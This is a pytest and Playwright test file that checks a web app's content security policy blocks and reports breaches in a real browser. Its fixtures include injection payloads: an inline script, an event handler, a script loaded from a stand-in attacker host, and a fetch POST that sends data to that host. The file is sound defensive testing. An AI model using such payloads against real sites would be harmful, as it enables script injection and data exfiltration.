"""The content policy holds in a real browser, and no test passes over a breach of it."""

import pytest
from playwright.sync_api import expect

INLINE = """
const element = document.createElement("script");
element.textContent = "window.ran = true";
document.body.append(element);
"""
HANDLER = """document.body.insertAdjacentHTML("beforeend", '<button id="x" onclick="window.ran = true">x</button>')"""
STYLE = """document.body.insertAdjacentHTML("beforeend", '<p style="color: red">x</p>')"""
ELSEWHERE = """
const element = document.createElement("script");
element.src = "https://evil.example/script.js";
document.body.append(element);
"""
FRAME = """document.body.insertAdjacentHTML("beforeend", '<iframe src="/login/"></iframe>')"""
SENT_AWAY = """fetch("https://evil.example/", { method: "POST", body: "x" }).catch(() => {})"""


@pytest.mark.parametrize(
    "breach, directive",
    [
        (INLINE, "script-src"),
        (HANDLER, "script-src"),
        (STYLE, "style-src"),
        (ELSEWHERE, "script-src"),
        (FRAME, "frame-src"),
        (SENT_AWAY, "connect-src"),
    ],
    ids=["inline script", "handler", "style", "script from elsewhere", "frame", "data sent away"],
)
def test_a_breach_is_stopped_and_told(page_as, breach, directive):
    page = page_as()
    page.goto("/login/")
    with page.expect_console_message(lambda message: "Content policy broken" in message.text):
        page.evaluate(f"() => {{ {breach} }}")
    broken = [text for text in page.complaints if "Content policy broken" in text]
    assert directive in broken[0]
    assert page.evaluate("window.ran") is None
    page.complaints.clear()  # what the fixture would fail this test for


def test_a_breach_nobody_asked_for_fails_the_test(page_as):
    """What every other test relies on: the list that `page_as` looks at in the end."""
    page = page_as()
    page.goto("/login/")
    assert page.complaints == []
    with page.expect_console_message(lambda message: "Content policy broken" in message.text):
        page.evaluate(f"() => {{ {INLINE} }}")
    assert page.complaints
    page.complaints.clear()


def test_nothing_is_broken_where_nothing_is_done(page_as, lan, pond):
    page = page_as(lan)
    page.goto("/")
    expect(page.locator("main")).to_be_visible()
    assert page.complaints == []
